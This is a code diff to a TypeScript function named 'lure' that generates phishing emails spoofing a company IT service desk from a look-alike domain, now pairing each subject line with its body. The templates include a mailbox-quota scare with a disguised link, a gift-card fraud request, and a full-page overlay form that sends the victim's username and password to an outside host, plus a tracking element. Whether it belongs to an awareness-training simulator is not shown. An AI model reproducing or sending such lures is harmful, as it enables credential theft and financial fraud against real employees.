@@ -160,19 +160,24 @@ export function lure(now: Occasion): Letter {
     { name: `${company.name} IT Service Desk`, address: `helpdesk@${lookAlike}` },
   ]);
   const real = `https://${company.domain}.${host}/login?u=${hex(8, roll.below(1e9))}`;
-  const body = roll.of([
-    `<p>Your mailbox is 99% full and will be closed today.</p><p><a href="${real}">https://portal.${company.domain}/mailbox/quota</a></p>`,
-    `<p>${escape(owner.givenName)}, are you at your desk? I need you to buy gift cards for a client, discreetly. Reply only to this address.</p>`,
-    `<div style="position:fixed; top:0; left:0; width:100%; height:100%; background:#ffffff; z-index:9999"><p>A document was shared with you.</p><form action="https://${host}/collect" method="post"><input name="user" value="${escape(owner.userPrincipalName)}"><input type="password" name="pass" placeholder="Password"><input type="submit" value="Open document"></form><a href="https://${lookAlike}/open">${company.domain}</a></div>`,
-  ]);
+  const [subject, body] = roll.of([
+    [
+      'URGENT: your mailbox will be closed',
+      `<p>Your mailbox is 99% full and will be closed today.</p><p><a href="${real}">https://portal.${company.domain}/mailbox/quota</a></p>`,
+    ],
+    [
+      'Are you available?',
+      `<p>${escape(owner.givenName)}, are you at your desk? I need you to buy gift cards for a client, discreetly. Reply only to this address.</p>`,
+    ],
+    [
+      `Shared with you: Salary_review_${now.number}.xlsx`,
+      `<div style="position:fixed; top:0; left:0; width:100%; height:100%; background:#ffffff; z-index:9999"><p>A document was shared with you.</p><form action="https://${host}/collect" method="post"><input name="user" value="${escape(owner.userPrincipalName)}"><input type="password" name="pass" placeholder="Password"><input type="submit" value="Open document"></form><a href="https://${lookAlike}/open">${company.domain}</a></div>`,
+    ],
+  ] as const);
   return {
     from,
     replyTo: [{ name: from.name, address: `reply-${now.number}@${host}` }],
-    subject: roll.of([
-      'URGENT: your password expires in 2 hours',
-      'Are you available?',
-      `Shared with you: Salary_review_${now.number}.xlsx`,
-    ]),
+    subject,
     body: { contentType: 'html', content: htmlPage(`${body}${tracker(now, host)}`) },
     importance: 'high',
   };
